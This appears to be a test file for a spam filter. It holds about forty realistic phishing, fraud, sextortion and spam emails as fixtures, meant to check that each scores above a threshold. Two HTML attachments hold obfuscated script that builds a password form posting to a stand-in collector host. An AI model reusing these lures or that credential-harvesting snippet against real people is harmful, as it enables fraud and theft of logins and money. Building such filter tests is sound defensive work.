/**
 * Spam and fraud of today, whole letters, from forged senders as well as from accounts and domains whose records are in order.
 * Written without a look at the rules. Not all are caught out of the box: those that slip through are named, and may get fewer.
 */
import t from 'tap'
import { judged } from '../../support/field-judge.ts'
import type { Letter } from '../../support/field.ts'

const THRESHOLD = 5

/** Of those below, how many may be under the threshold. */
const MAY_SLIP = 8

const LETTERS: readonly Letter[] = [
  {
    name: 'toll fee',
    via: 'throwaway',
    look: 'bare',
    from: 'E-ZPass Services <notice@ezpass-tollbalance.top>',
    subject: 'Final notice: unpaid toll balance',
    body: `Dear driver,
Our records show an unpaid toll of $6.99 on your vehicle. To avoid a late fee of $50.00 and suspension of your registration, pay before January 13.
[Pay now](https://ezpass-tollbalance.top/us)
E-ZPass Customer Service`,
  },
  {
    name: 'parcel fee',
    via: 'website',
    from: 'DHL Express <delivery@ferretek-kunz.pe>',
    subject: 'Your parcel is waiting - customs fee',
    body: `Dear Customer,
Your parcel CH881120993 could not be delivered because the customs duty of 2.99 CHF was not paid.
[Pay the fee and schedule delivery](https://bit.ly/3xKdhlfee)
If you do not act within 48 hours the parcel will be returned to sender.
DHL Express`,
  },
  {
    name: 'Swiss post fee, German',
    via: 'rented',
    from: 'Die Schweizerische Post <info@postch-zustellung.com>',
    subject: 'Ihr Paket wartet auf die Zustellung',
    body: `Sehr geehrter Kunde,
Ihr Paket konnte aufgrund unbezahlter Zollgebühren (CHF 1.99) nicht zugestellt werden.
[Gebühr bezahlen](https://postch-zustellung.com/zahlung)
Bitte bestätigen Sie die Zahlung innerhalb von 24 Stunden.`,
  },
  {
    name: 'mailbox full',
    via: 'account',
    from: 'IT Support <n.dlamini@betonkraal.co.za>',
    subject: 'example.org Storage Full 98%',
    body: `Dear r.keller@example.org,
Your mailbox storage is 98% full. You will not be able to send or receive new messages until you upgrade your quota.
[Increase storage now](https://webmail-example-org.pages.dev/?e=r.keller@example.org)
example.org Mail Administrator`,
  },
  {
    name: 'password expires',
    via: 'forged',
    from: 'example.org Helpdesk <no-reply@example.org>',
    subject: 'ACTION REQUIRED: Password for r.keller expires today',
    body: `Hello r.keller,
The password to your account r.keller@example.org expires today 1/12/2026.
Use the button below to keep the same password.
[Keep My Password](https://ipfs.io/ipfs/bafybeig8kx#r.keller@example.org)
IT Support Team`,
  },
  {
    name: 'held messages',
    via: 'rented',
    from: 'Mail Delivery System <postmaster@mailguard-srv.click>',
    subject: '(7) Undelivered mails for r.keller@example.org',
    body: `Incoming messages failed to reach your inbox due to a server synchronisation error.
Recipient: r.keller@example.org   Pending: 7
[Release messages to inbox](https://mailguard-srv.click/rel?u=r.keller@example.org)
[Review](https://mailguard-srv.click/rev)
Note: messages are deleted after 3 days.`,
  },
  {
    name: 'voicemail with an HTML file',
    via: 'account',
    from: 'VoiceMail <ops@betonkraal.co.za>',
    subject: 'New VM received from +1 (312) 555-01** ',
    body: `You have a new voice message.
Duration: 00:48. Caller: WIRELESS CALLER
Open the attached file to listen.`,
    files: [
      {
        name: 'VM_Play_0048.wav.html',
        type: 'text/html',
        content:
          '<html><body><script>document.write(unescape("%3Cform%20action%3D%22https%3A//kx-collect.top/p.php%22%20method%3D%22post%22%3E%3Cinput%20type%3D%22password%22%20name%3D%22p%22%3E%3C/form%3E"))</script></body></html>',
      },
    ],
  },
  {
    name: 'QR code for MFA',
    via: 'account',
    from: 'Microsoft Security <admin@betonkraal.co.za>',
    subject: 'Two-Factor Authentication must be updated',
    look: 'notice',
    body: `# Microsoft Authenticator
Your multi-factor authentication is set to expire. Scan the QR code below with your phone camera to re-authenticate within 24 hours, or you will lose access to your account.
![QR](cid:qr01 220x220)
© 2026 Microsoft`,
    files: [
      {
        name: 'qr.png',
        type: 'image/png',
        content:
          '\x89PNG\r\n\u001a\n\u0000\u0000\u0000\rIHDR\u0000\u0000\u0001\u0000\u0000\u0000\u0001\u0000\u0001\u0000\u0000\u0000\u0000',
      },
    ],
  },
  {
    name: 'PayPal limited',
    via: 'forged',
    from: 'PayPal Service <service@paypal.com>',
    subject: 'Your account has been limited',
    body: `Dear Customer,
We noticed unusual activity on your PayPal account. Until you verify your information, your account access will remain limited.
[Verify your account](http://paypaI-resolve.center-help.info/login)
If you don't respond within 24 hours your account will be permanently suspended.`,
  },
  {
    name: 'Netflix suspended, French',
    via: 'website',
    from: 'NETFLIX <suivi@plomberie-dudu.fr>',
    subject: 'Votre abonnement est suspendu',
    body: `Cher client,
Votre dernier paiement a été refusé. Votre abonnement Netflix est suspendu.
[Mettre à jour mes informations de paiement](https://nflx-regul.plomberie-dudu.fr/)
Sans action de votre part sous 48h votre compte sera supprimé.`,
  },
  {
    name: 'Sparkasse TAN',
    via: 'bot',
    from: 'Sparkasse Online-Banking <sicherheit@s-pushtan-update.de>',
    subject: 'Aktualisierung Ihres pushTAN-Verfahrens erforderlich',
    body: `Sehr geehrte Kundin, sehr geehrter Kunde,
aufgrund der neuen Zahlungsdiensterichtlinie müssen Sie Ihre Daten bestätigen. Andernfalls wird Ihr Konto gesperrt.
[Jetzt bestätigen](https://s-pushtan-update.de/login)
Mit freundlichen Grüßen, Ihre Sparkasse`,
  },
  {
    name: 'wallet',
    via: 'rented',
    from: 'MetaMask <support@metamask-kyc.live>',
    subject: 'Your wallet will be suspended - verify your wallet',
    body: `# MetaMask
Due to new KYC regulations all wallets must be verified before January 14, 2026. Unverified wallets will be restricted.
[Verify your wallet](https://metamask-kyc.live/restore)
You will be asked to enter your Secret Recovery Phrase.`,
  },
  {
    name: 'LinkedIn fake',
    via: 'rented',
    from: 'Linkedln <notify@lnkd-message.work>',
    subject: 'You have 1 new business message',
    body: `Hi r.keller,
You appeared in 9 searches this week. Frank Weiss, Purchasing Manager, sent you a business inquiry.
[Read message](https://lnkd-message.work/login.php?email=r.keller@example.org)
LinkedIn Corporation`,
  },
  {
    name: 'HTML attachment, payment',
    via: 'account',
    from: 'Accounts Payable <accounts@betonkraal.co.za>',
    subject: 'Payment Advice - Ref:[SWIFT-88120]',
    body: `Dear Sir/Madam,
The attached payment advice is issued at the request of our customer. The advice is for your reference only.
Please open the attachment and sign in with your email to view.`,
    files: [
      {
        name: 'SWIFT_Copy.htm',
        type: 'text/html',
        content:
          '<html><body><script>document.write(unescape("%3Cform%20action%3D%22https%3A//kx-collect.top/p.php%22%20method%3D%22post%22%3E%3Cinput%20type%3D%22password%22%20name%3D%22p%22%3E%3C/form%3E"))</script></body></html>',
      },
    ],
  },
  {
    name: 'hosting renewal',
    via: 'website',
    from: 'Infomaniak Billing <billing@ferretek-kunz.pe>',
    subject: 'Domain suspension: keller-velos.ch',
    body: `Dear customer,
Your domain name keller-velos.ch has expired and services will be suspended. Renew today for only CHF 3.90.
[Renew now](https://ferretek-kunz.pe/wp/ik/renew.php)`,
  },
  {
    name: 'Norton renewal callback',
    via: 'gmail',
    from: 'Billing Dept <norvik.billing3382@gmail.com>',
    subject: 'Your subscription has been renewed - Invoice NRT-228812',
    body: `Dear Customer,
Thank you for your purchase. Your Norton 360 Total Protection has been successfully renewed for 3 years and $399.99 will be debited from your account within 24 hours.
Invoice No: NRT-228812   Quantity: 1   Amount: $399.99
If you did not authorize this transaction or wish to cancel, call our customer support at +1 (888) 555-0191.
Regards, Billing Department`,
  },
  {
    name: 'PayPal money request callback',
    via: 'gmail',
    from: 'Leo Marsh <leomarsh.pp8@gmail.com>',
    subject: 'Bitcoin order #BTC-991',
    body: `You sent $599.00 USD to Coinbase Exchange for 0.0051 BTC via PayPal. It may take a few moments for this transaction to appear.
Didn't make this payment? Call us toll-free: +1-855-555-0171 to cancel and get a full refund.`,
  },
  {
    name: 'gift cards',
    via: 'gmail',
    from: 'Martin Graf <exec.desk8812@gmail.com>',
    subject: 'Re: task',
    body: `I need you to purchase 5 Apple gift cards at $200 each for a client. Scratch the back to reveal the codes and email me the pictures. I will reimburse you by the end of the day. Keep this confidential, it's a surprise.
Martin`,
  },
  {
    name: 'payroll diversion',
    via: 'gmail',
    from: 'Sabine Roth <s.roth.private19@gmail.com>',
    subject: 'Direct deposit update',
    body: `Hi,
I recently changed banks and would like to update my direct deposit information before the next payroll. Can the change be effective for the current pay date? What details do you need?
Thanks
Sabine Roth`,
  },
  {
    name: 'RFQ with an archive',
    via: 'rented',
    from: 'Ms. Linda Chow <sales@zhenfa-trading.com>',
    subject: 'RFQ - URGENT REQUEST FOR QUOTATION 88120',
    body: `Dear Sir,
Good day. We are interested in your products. Kindly find attached our purchase order and send your best price, delivery time and payment terms.
Waiting for your prompt reply.
Best Regards
Linda Chow, Procurement Manager`,
    files: [
      {
        name: 'RFQ_88120.pdf.exe',
        type: 'application/octet-stream',
        content: 'MZ\x90\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\xff\xff\u0000\u0000',
      },
    ],
  },
  {
    name: 'link to an archive',
    via: 'account',
    from: 'Kancelaria Prawna <biuro@betonkraal.co.za>',
    subject: 'Przedsądowe wezwanie do zapłaty',
    body: `Szanowni Państwo,
w załączeniu przesyłamy wezwanie do zapłaty zaległej faktury nr 88/2026. Dokumenty dostępne pod poniższym linkiem.
[Faktura_88_2026.pdf](https://betonkraal.co.za/tmp/Faktura_88_2026.zip)
Brak wpłaty w terminie 3 dni skutkuje skierowaniem sprawy do sądu.`,
  },
  {
    name: 'next of kin',
    via: 'gmail',
    from: 'Barr. Kofi Mensah <barrkofimensah1958@gmail.com>',
    subject: 'ATTN: BENEFICIARY',
    fields: ['Reply-To: barr.kofi.chambers@outlook.com'],
    to: 'undisclosed-recipients:;',
    body: `Dear Friend,
I am Barrister Kofi Mensah, personal attorney to my late client who died with his family in a car crash without a will. He left behind USD 12.5 Million in a bank here. I seek your consent to present you as the next of kin since you share the same last name.
We will share 60/40. This is 100% risk free. Reply with your full name, address and phone number.
Yours faithfully`,
  },
  {
    name: 'donation of a lottery winner',
    via: 'account',
    from: 'Manuel Franco <m.franco@betonkraal.co.za>',
    subject: 'Donation',
    fields: ['Reply-To: manuelfrancodonation@gmail.com'],
    body: `Hello,
I am Manuel Franco, winner of the Powerball jackpot of $768 million. I am donating 2,000,000 Euros to 5 lucky individuals for charity. Your email was randomly selected. Contact me for more details.`,
  },
  {
    name: 'loan offer',
    via: 'gmail',
    from: 'Easy Finance <easyfinance.loan2%@gmail.com>',
    subject: 'Loan at 2%',
    body: `Do you need an urgent loan? We offer business and personal loans from $5,000 to $50,000,000 at 2% interest rate with no collateral, no credit check. Apply now with your name, amount, duration, country, phone number.
Regards, Dr. Alan Brooks`,
  },
  {
    name: 'sextortion',
    via: 'bot',
    from: 'r.keller@example.org',
    subject: 'I have full control of your device',
    body: `Hi!
As you may have noticed, I sent you this email from your account. I infected your device with a trojan and recorded you through your webcam while you were watching adult videos.
Transfer $1400 in Bitcoin to my wallet: bc1q9xkz7e4l0r8twq5v2n6s3jhf0p8d7m4c2y1u0a. You have 48 hours, after that I send the video to all your contacts. Do not reply, do not contact the police.`,
  },
  {
    name: 'sextortion, German',
    via: 'bot',
    from: 'Anonym <info@hk-dolmen.ru>',
    subject: 'Zahlung ausstehend',
    body: `Hallo,
leider habe ich schlechte Nachrichten für Sie. Vor einigen Monaten verschaffte ich mir Zugang zu Ihren Geräten und habe Sie über die Kamera gefilmt. Überweisen Sie 1350 € in Bitcoin an 1J7kXwQp3vTz8HcR5sNdYfUbLmEa92GtKo innerhalb von 50 Stunden, sonst erhalten alle Ihre Kontakte das Video.`,
  },
  {
    name: 'lonely woman',
    via: 'gmail',
    from: 'Svetlana <svetik.love1993@gmail.com>',
    subject: 'hello dear',
    body: 'Hello my dear friend! My name is Svetlana, I am 29 years old lady from Kazan. I saw your profile and I would like to know you better. I am looking for serious relationship with a kind man. Write me to my personal email svetlana-kazan@mail.ru and I will send you my photos. I wait for your letter!',
  },
  {
    name: 'hookup',
    via: 'throwaway',
    from: 'Jessica (1.2 miles away) <jess@qorvantal.site>',
    subject: 'u up? 😘',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `[3 lonely women near you want to meet tonight](https://qorvantal.site/c/88x1)
![](https://qorvantal.site/i/j.jpg 500x600)(https://qorvantal.site/c/88x1)
[View my private photos - no credit card required](https://qorvantal.site/c/88x1)`,
  },
  {
    name: 'SEO',
    via: 'gmail',
    from: 'Anika Sharma <anika.seoexpert9@gmail.com>',
    subject: 'Re: Website ranking issue',
    body: `Hi,
I was going through your website and found some errors that stop it from ranking on the first page of Google. We can get you on top with guaranteed results within 3 months, using white hat SEO and quality backlinks.
May I send you a free audit report and our price list?
Kind regards, Anika, Digital Marketing Executive`,
  },
  {
    name: 'attendee list',
    via: 'exchange',
    look: 'word',
    from: 'Olivia Bennett <olivia.bennett@eventleadsdata.co>',
    subject: 'CES 2026 Attendees List',
    body: `Hi,
Would you be interested in acquiring the attendees contact list of CES 2026? Total counts: 128,112 contacts.
Data fields: name, title, company, phone, verified email address, industry, revenue.
Let me know your interest so I can send counts and pricing.
Regards, Olivia Bennett, Marketing Executive
If you do not wish to receive emails from us, reply with "Leave out".`,
  },
  {
    name: 'weight trick',
    via: 'throwaway',
    from: 'Ice Hack Daily <news@brelqovia.shop>',
    subject: 'Weird 7-second "ice trick" melts 42 lbs overnight?',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `[Doctors stunned: 1 cup before bed burns belly fat while you sleep](https://brelqovia.shop/x1/88ak2)
![](https://brelqovia.shop/i/a1.jpg 600x800)(https://brelqovia.shop/x1/88ak2)`,
  },
  {
    name: 'erectile',
    via: 'bot',
    from: 'Dr. Max <dm@fergolit.ru>',
    subject: 'Be hard as a rock tonight',
    body: `Boost your bedroom performance! V1agra, C1alis, Levitra from $0.79 per pill. No prescription required, discreet worldwide shipping.
[ORDER NOW](http://fergolit.ru/rx)`,
  },
  {
    name: 'survey reward',
    via: 'throwaway',
    from: 'Costco Rewards <cr@mixalvor.site>',
    subject: 'Congratulations! You have been selected for a $100 Costco reward',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `# Answer and win!
You have been chosen to participate in our loyalty program for FREE! It will take only a minute to receive this fantastic prize.
[CONFIRM NOW](https://mixalvor.site/s1)
![](https://mixalvor.site/c.png 500x500)(https://mixalvor.site/s1)`,
  },
  {
    name: 'supermarket prize, German',
    via: 'throwaway',
    from: 'Lidl Gewinnspiel <lidl@prelvonti.space>',
    subject: 'Herzlichen Glückwunsch! Sie wurden ausgewählt',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `# Sie haben gewonnen!
Sie wurden als Gewinner eines Parkside-Werkzeugsets ausgewählt. Beantworten Sie 3 Fragen und zahlen Sie nur den Versand von 2 €.
[Preis abholen](https://prelvonti.space/l)`,
  },
  {
    name: 'solar',
    via: 'throwaway',
    from: 'Solar Savings 2026 <ss@tamborlic.site>',
    subject: 'Homeowners born before 1985 get this solar benefit',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `# $0 down solar
New 2026 program pays homeowners to go solar. Power companies are furious. See if you qualify in 30 seconds.
[Check if I qualify](https://tamborlic.site/q)`,
  },
  {
    name: 'antivirus renewal',
    via: 'throwaway',
    from: 'McAfee Alert <ma@holvantis.click>',
    subject: 'Your antivirus subscription expired today - 5 viruses found',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `Your PC may be infected with (5) viruses! Your McAfee subscription has expired. Renew now with 80% discount, offer ends today.
[Renew protection](https://holvantis.click/m)`,
  },
  {
    name: 'prize with random subject tail',
    via: 'throwaway',
    from: 'YETI Cooler <y@wexilom.sbs>',
    subject: 'r.keller, your YETI is waiting [#88-kxq-1029]',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: '![](https://wexilom.sbs/y.jpg 600x900)(https://wexilom.sbs/y)',
  },
  {
    name: 'crypto bot',
    via: 'throwaway',
    from: 'Quantum AI <q@traxvolen.online>',
    subject: 'Elon’s platform pays $1,280 a day to beginners',
    hidden:
      'meadow lantern quietly seventeen harbour copper ridge under willow nobody asked the porter whether evening trains carried violets across the river toward Maple Junction where Aunt Helen kept bees and wrote letters about thunder',
    body: `# From $250 to $10,000 in 30 days
The AI trading bot makes ordinary people rich with bitcoin. Banks tried to stop the broadcast. Only 37 places left today.
[Register for free](https://traxvolen.online/r)`,
  },
  {
    name: 'obfuscated letters',
    via: 'bot',
    from: 'Rx <rx@qwopil.top>',
    subject: 'V.i.a.g.r.a & C-i-a-l-i-s 80% 0FF',
    body: `B u y  c h e a p  m e d s  o n l i n e!  V|agra  $1.20,  C!alis $1.80, X@nax. N0 prescr1ption.
[CL1CK HERE](http://qwopil.top/)`,
  },
  {
    name: 'letters of other scripts',
    via: 'rented',
    from: 'Раураl <service@pay-notice.xyz>',
    subject: 'Yоur ассоunt hаs bееn suspеndеd',
    body: `Dеаr сustоmеr, yоur РаyРаl ассоunt hаs bееn limitеd. Plеаsе vеrify yоur idеntity.
[Vеrify nоw](https://pay-notice.xyz/pp)`,
  },
  {
    name: 'Chinese invoices',
    via: 'rented',
    from: '财务 <fp88@tqmail.cyou>',
    subject: '代开发票 13800008812',
    body: '您好!本公司可代开各类增值税发票,税点低,真票可验。请加微信 fp8812 或致电 13800008812 张经理。',
  },
  {
    name: 'Japanese card phish',
    via: 'rented',
    from: '三井住友カード <info@smbc-vpass.top>',
    subject: '【重要】お支払い方法の確認',
    body: `いつも三井住友カードをご利用いただきありがとうございます。お客様のカードに不正利用の疑いがあるため、ご利用を一時停止しました。24時間以内にご本人確認をお願いいたします。
[ご本人確認](https://smbc-vpass.top/login)`,
  },
  {
    name: 'guest post',
    via: 'gmail',
    from: 'Outreach Team <linkbuilding.outreach4@gmail.com>',
    subject: 'Sponsored post on your site',
    body: `Hi there,
I'm interested in buying a sponsored post with a do-follow link on your website. What is your price for general and casino/CBD niche? We need permanent guest posts and have a big budget.
I look forward to a long-term cooperation.`,
  },
  {
    name: 'CEO fraud',
    via: 'gmail',
    from: 'Martin Graf <ceo.office.mgr01@gmail.com>',
    subject: 'Quick task',
    body: `Robin,
Are you available? I need you to run a quick task for me. I'm in a conference meeting right now and can't take calls, so just reply to my email.
Martin Graf
Sent from my iPhone`,
  },
]

t.test('spam and fraud of today go over the threshold', async t => {
  const slipped: string[] = []
  for (const letter of LETTERS) {
    const { score, failed, found } = await judged(letter)
    t.strictSame(failed, [], `every scorer answers: ${letter.name}`)
    t.ok(score > 0, `${letter.name}: ${score} points, at least a doubt`)
    if (score < THRESHOLD) slipped.push(`${letter.name}: ${score}; ${found}`)
  }
  for (const one of slipped) t.comment(one)
  t.ok(slipped.length <= MAY_SLIP, `${slipped.length} of ${LETTERS.length} under the threshold`)
})
